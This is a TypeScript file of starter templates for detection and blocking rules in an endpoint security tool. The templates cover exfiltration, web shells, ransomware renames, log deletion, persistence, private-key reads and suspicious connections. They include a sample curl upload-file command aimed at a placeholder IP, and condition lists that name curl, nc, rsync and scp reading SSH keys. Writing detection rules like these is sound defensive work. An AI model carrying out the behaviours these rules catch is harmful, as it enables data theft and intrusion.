// What a new rule can begin with: one for each kind of thing that is watched, whole and right as it is, to be changed.

import { offered } from '../events/fact-table.ts';
import type { Platform, Trigger } from '../events/triggers.ts';
import type { DraftCondition, RuleDraft } from './rule-draft.ts';

type Begun = Pick<
  RuleDraft,
  'description' | 'message' | 'conditions' | 'tags' | 'falsePositives' | 'severity'
>;

export interface RuleTemplate {
  readonly name: string;
  readonly summary: string;
  readonly trigger: Trigger;
  /** Nothing: on each. */
  readonly platform?: Platform;
  begin(platform: Platform | undefined): Begun;
}

const when = (
  fact: string,
  operator: string,
  value: DraftCondition['value'],
  match: DraftCondition['match'] = value,
): DraftCondition => ({ fact, operator, value, match });

export const RULE_TEMPLATES: readonly RuleTemplate[] = [
  {
    name: 'exec',
    summary: 'a program is started with an argument',
    trigger: 'notify.exec',
    begin: () => ({
      description:
        'curl was told to upload a file. Say here why that matters, and what an analyst looks at next: the address in process.command_line, and who ran it.',
      message: 'curl uploads a file',
      severity: 'medium',
      tags: ['attack.t1048', 'attack.exfiltration'],
      falsePositives: ['A job that exports files.'],
      conditions: [
        when('process.name', 'equal', 'curl'),
        when('process.args', 'contains', '--upload-file', [
          'curl',
          '--upload-file',
          'x.ods',
          'https://198.51.100.7/',
        ]),
      ],
    }),
  },
  {
    name: 'deny-exec',
    summary: 'a program may not be started; in shadow mode at first',
    trigger: 'auth.exec',
    begin: () => ({
      description:
        'A program starts from a folder that everybody may write to. Say here why it may not, and whom somebody asks who needs it.',
      message: 'Programs may not start from a temporary folder',
      severity: 'high',
      tags: ['attack.t1204.002', 'attack.execution'],
      falsePositives: ['Installers that unpack themselves.'],
      conditions: [when('file.path', 'startsWith', '/tmp/', '/tmp/installer/run')],
    }),
  },
  {
    name: 'open',
    summary: 'a file is opened by a certain program',
    trigger: 'notify.open',
    begin: () => ({
      description:
        'A document is opened by a program that has no business with it. Say here which that are, and why.',
      message: 'a script reads a document',
      severity: 'medium',
      falsePositives: ['A search index.'],
      conditions: [
        when('file.path', 'startsWith', '/srv/documents/', '/srv/documents/plan.pdf'),
        when('process.name', 'in', ['bash', 'python3', 'osascript'], 'bash'),
      ],
    }),
  },
  {
    name: 'deny-open',
    summary: 'a file may not be opened; in shadow mode at first',
    trigger: 'auth.open',
    begin: () => ({
      description:
        'Files under this folder are closed to everybody. Say here why, and whom somebody asks who needs one.',
      message: 'This file is closed',
      severity: 'high',
      falsePositives: ['A backup.'],
      conditions: [when('file.path', 'startsWith', '/srv/sealed/', '/srv/sealed/payroll.csv')],
    }),
  },
  {
    name: 'create',
    summary: 'a file appears in a folder',
    trigger: 'notify.create',
    begin: () => ({
      description:
        'A script appeared where a web server serves files. Look at what it does and who wrote it.',
      message: 'a script appeared in the web root',
      severity: 'high',
      tags: ['attack.t1505.003', 'attack.persistence'],
      falsePositives: ['A deployment.'],
      conditions: [
        when('file.path', 'startsWith', '/var/www/', '/var/www/html/x.php'),
        when('file.extension', 'in', ['php', 'jsp', 'sh'], 'php'),
      ],
    }),
  },
  {
    name: 'rename',
    summary: 'a file is given another name',
    trigger: 'notify.rename',
    begin: () => ({
      description: 'A file took a name that ransomware gives. Many of them in a row are an emergency.',
      message: 'a file was renamed as ransomware does',
      severity: 'high',
      tags: ['attack.t1486', 'attack.impact'],
      falsePositives: ['Somebody who encrypts their files.'],
      conditions: [when('file.target_path', 'endsWith', '.locked', '/home/ada/plan.ods.locked')],
    }),
  },
  {
    name: 'unlink',
    summary: 'a file is removed',
    trigger: 'notify.unlink',
    begin: () => ({
      description: 'A log was removed, which rotation does and people who hide something do.',
      message: 'a log was removed',
      severity: 'medium',
      tags: ['attack.t1070.002', 'attack.defense_evasion'],
      falsePositives: ['Rotation of logs.'],
      conditions: [
        when('file.directory', 'equal', '/var/log'),
        when('process.name', 'in', ['rm', 'shred', 'unlink'], 'shred'),
      ],
    }),
  },
  {
    name: 'persistence',
    summary: 'something that starts by itself is set up',
    trigger: 'notify.create',
    begin: (platform) => {
      const isMac = platform === 'macos';
      const folder = isMac ? '/Library/LaunchDaemons/' : '/etc/systemd/system/';
      const suffix = isMac ? '.plist' : '.service';
      return {
        description:
          'A service that starts by itself was set up. Look at what it runs and who wrote it; a package manager does so often.',
        message: 'a service was set up',
        severity: 'medium',
        tags: [isMac ? 'attack.t1543.004' : 'attack.t1543.002', 'attack.persistence'],
        falsePositives: ['The installation of software.'],
        conditions: [
          when('file.path', 'startsWith', folder, `${folder}x${suffix}`),
          // Another end alone: the folder stays.
          { ...when('file.name', 'endsWith', suffix, `x${suffix}`), other: 'x.txt' },
        ],
      };
    },
  },
  {
    name: 'credential-access',
    summary: 'a secret is read by a program that has no need of it',
    trigger: 'notify.open',
    begin: () => ({
      description: 'A private key was opened by a program that copies or sends files. Ask whoever ran it.',
      message: 'a private key was opened by a program that sends files',
      severity: 'high',
      tags: ['attack.t1552.004', 'attack.credential_access'],
      falsePositives: ['A backup.'],
      conditions: [
        when('file.name', 'in', ['id_rsa', 'id_ed25519'], 'id_ed25519'),
        when('process.name', 'in', ['curl', 'nc', 'rsync', 'scp'], 'curl'),
      ],
    }),
  },
  {
    name: 'dns',
    summary: 'a name is asked for',
    trigger: 'dns.query',
    begin: () => ({
      description: 'A name was asked for that nobody here has business with. Look at which program asked.',
      message: 'a name of a service for anonymous uploads was asked for',
      severity: 'medium',
      tags: ['attack.t1071.004', 'attack.command_and_control'],
      falsePositives: ['Somebody who looks into it.'],
      conditions: [when('dns.question.name', 'ignoreCase:endsWith', '.example.org', 'drop.example.org')],
    }),
  },
  {
    name: 'dns-answer',
    summary: 'a name is answered in a certain way',
    trigger: 'dns.answer',
    begin: () => ({
      description:
        'A name below a zone of ours does not exist: a mistake in a configuration, or somebody who guesses names.',
      message: 'a name of ours was asked for that does not exist',
      severity: 'low',
      falsePositives: ['A mistyped name.'],
      conditions: [
        when('dns.question.name', 'ignoreCase:endsWith', '.corp.example', 'vpn1.corp.example'),
        when('dns.response_code', 'equal', 'NXDOMAIN'),
      ],
    }),
  },
  {
    name: 'flow',
    summary: 'a connection to a network and a port',
    trigger: 'flow',
    begin: () => ({
      description: 'A connection went to a network that is on no map of ours. Look at which program made it.',
      message: 'a connection to a network that is not ours',
      severity: 'medium',
      tags: ['attack.t1571', 'attack.command_and_control'],
      falsePositives: ['A supplier’s service.'],
      conditions: [
        { ...when('destination.ip', 'inCidr', '198.51.100.0/24', '198.51.100.7'), other: '192.0.2.1' },
        when('destination.port', 'equal', 4444),
      ],
    }),
  },
  {
    name: 'log',
    summary: 'a line of a log',
    trigger: 'log',
    begin: () => ({
      description:
        'Somebody tried to become root and gave a wrong password. Several in a row are no slip of a finger.',
      message: 'sudo refused a password',
      severity: 'low',
      tags: ['attack.t1548.003', 'attack.privilege_escalation'],
      falsePositives: ['A mistyped password.'],
      conditions: [
        when('log.logger', 'equal', 'sudo'),
        when('message', 'includes', 'incorrect password', 'ada : 3 incorrect password attempts'),
      ],
    }),
  },
  {
    name: 'picket',
    summary: 'something about the guard itself',
    trigger: 'picket',
    begin: () => ({
      description: 'Enforcement was switched off by a person. Ask who it was, and when it will be on again.',
      message: 'Picket was switched off',
      severity: 'high',
      tags: ['attack.t1562.001', 'attack.defense_evasion'],
      falsePositives: ['Maintenance.'],
      conditions: [when('picket.enforcement.state', 'equal', 'off')],
    }),
  },
];

/** For a trigger that has no template of its own: what nearly every event has. */
export function genericTemplate(trigger: Trigger, platform: Platform): RuleTemplate | undefined {
  const facts = new Set(offered(trigger, platform).map(({ name }) => name));
  const conditions = [
    when('process.executable', 'equal', '/usr/local/bin/example'),
    when('file.path', 'startsWith', '/srv/documents/', '/srv/documents/plan.pdf'),
  ].filter(({ fact }) => facts.has(fact));
  if (conditions.length === 0) return undefined;
  return {
    name: trigger,
    summary: `an event of ${trigger}`,
    trigger,
    platform,
    begin: () => ({
      description: 'Say here why this matters, and what an analyst looks at next.',
      message: `${trigger} by a program that should not`,
      severity: 'medium',
      conditions,
    }),
  };
}
